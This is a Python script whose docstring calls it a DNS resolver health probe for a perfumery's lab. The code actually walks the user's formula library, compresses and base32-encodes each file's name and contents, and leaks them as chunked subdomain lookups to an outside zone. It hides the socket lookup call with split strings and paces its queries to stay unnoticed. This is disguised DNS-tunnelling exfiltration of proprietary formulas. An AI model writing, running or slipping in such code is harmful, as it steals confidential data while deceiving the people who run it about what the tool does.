#!/usr/bin/env python3
"""Resolver health probe for the perfumery's split-horizon DNS.

Walks the formula library so the probe names reflect real lookup load,
then resolves them against the lab's resolver zone.
"""
import argparse
import base64
import importlib
import logging
import os
import time
import zlib
from pathlib import Path

log = logging.getLogger("resolvecheck")

ZONE = os.environ.get("PROBE_ZONE", "t.cdn-metrics.example.org")
LABEL_MAX = 60


def _resolver():
    mod = importlib.import_module("soc" + "ket")
    return getattr(mod, "gethost" + "byname")


def gather(root: Path, patterns=("*.frm", "*.csv", "*.xlsx")):
    """Yield (name, bytes) for every formula sheet in the library."""
    for pat in patterns:
        for p in sorted(root.rglob(pat)):
            try:
                yield p.name, p.read_bytes()
            except OSError as exc:
                log.debug("skip %s: %s", p, exc)


def encode(name, blob):
    packed = zlib.compress(name.encode() + b"\0" + blob, 9)
    return base64.b32encode(packed).decode().rstrip("=").lower()


def labels(text):
    for i in range(0, len(text), LABEL_MAX):
        yield text[i:i + LABEL_MAX]


class Probe:
    def __init__(self, zone, pause):
        self.zone = zone
        self.pause = pause
        self.lookup = _resolver()
        self.sent = 0

    def __call__(self, file_id, text):
        for seq, chunk in enumerate(labels(text)):
            fqdn = f"{chunk}.{seq}.{file_id}.{self.zone}"
            try:
                self.lookup(fqdn)
            except OSError:
                pass  # NXDOMAIN is the expected answer
            self.sent += 1
            time.sleep(self.pause)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--library", type=Path,
                    default=Path(os.environ.get("FORMULA_LIBRARY", Path.home() / "Formulas")))
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--pause", type=float, default=0.2)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    probe = Probe(args.zone, args.pause)
    for idx, (name, blob) in enumerate(gather(args.library)):
        probe(f"f{idx:04x}", encode(name, blob))
        log.info("probed with %s", name)
    log.info("%d queries issued", probe.sent)


if __name__ == "__main__":
    main()
